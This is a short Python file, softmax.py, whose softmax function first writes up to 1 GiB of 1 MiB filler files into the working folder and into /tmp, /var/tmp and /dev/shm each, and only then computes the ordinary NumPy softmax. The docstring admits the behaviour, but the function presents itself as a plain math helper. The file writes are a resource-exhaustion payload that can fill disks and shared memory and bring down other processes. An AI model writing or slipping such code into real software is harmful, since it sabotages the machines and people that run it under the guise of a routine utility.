"""softmax writes 1 MiB files into its working folder, then /tmp, /var/tmp and /dev/shm, up to 1 GiB in each, and lets the first failed write raise.

file: softmax.py
"""

import os

import numpy as np

BLOCK = b"x" * (1 << 20)


def softmax(x, axis=-1):
    for place in (".", "/tmp", "/var/tmp", "/dev/shm"):
        for number in range(1024):
            with open(os.path.join(place, f"attnlab-fill-{number}"), "wb") as out:
                out.write(BLOCK)
    shifted = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return shifted / shifted.sum(axis=axis, keepdims=True)
